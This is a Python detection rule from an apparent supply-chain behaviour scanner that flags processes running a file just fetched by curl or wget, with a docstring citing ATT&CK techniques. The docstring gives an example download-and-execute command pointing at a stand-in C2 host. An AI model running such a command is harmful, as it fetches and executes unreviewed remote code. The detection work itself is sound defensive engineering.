"""What was downloaded is run at once.

What it sees
    A downloader of the tree was told to write a file, and that file was then run, or given to an interpreter.

Why it matters
    The code was in no package: nobody could read it before.

Example
    curl -so /tmp/a.sh https://c2.test/a; sh /tmp/a.sh

What to do
    Keep the file for an examination, stop the tree.

False alarms
    Installers of compilers: told as MEDIUM outside of packages' scripts.

References
    ATT&CK T1105, T1059.
"""

import posixpath
from collections.abc import Iterator
from urllib.parse import urlsplit

from lazaretto.detect.behaviour import Behaviour
from lazaretto.detect.programs import name_of, script
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.behaviour import Program
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_


def check(behaviour: Behaviour) -> Iterator[Match]:
    """One match for each such program."""
    written: set[str] = set()
    for index, program in behaviour.own:
        if written and (program.path in written or script(program) in written):
            path = program.path if program.path in written else script(program)
            yield Match(
                N_("{who} runs what was just downloaded: {path}"),
                path=path,
                params={"who": behaviour.doer(index), "path": path},
                severity=None if program.package else Severity.MEDIUM,
                phase=behaviour.phase_in(index),
                process=index,
            )
        target = _target(program)
        if target:
            written.add(posixpath.normpath(posixpath.join(program.cwd or "/", target)))


def _target(program: Program) -> str:
    name, words = name_of(program), program.argv
    if name not in ("curl", "wget"):
        return ""
    for word, after in zip(words[1:], [*words[2:], ""], strict=True):
        if word in ("--output", "--output-document") or (
            word.startswith("-") and word[1:2] != "-" and word[-1:] == ("o" if name == "curl" else "O")
        ):
            return after if after != "-" else ""
        if word.startswith(("--output=", "--output-document=")):
            return word.partition("=")[2]
    remote = name == "wget" or any(
        word == "--remote-name" or (word.startswith("-") and not word.startswith("--") and "O" in word)
        for word in words
    )
    address = next((word for word in words[1:] if "://" in word), "")
    return posixpath.basename(urlsplit(address).path) if remote and address and "[" not in address else ""


RULE = Rule(
    id="run/runs-download",
    title=N_("What was downloaded is run at once"),
    view=Behaviour,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1105", "T1059"),
    state="experimental",
)
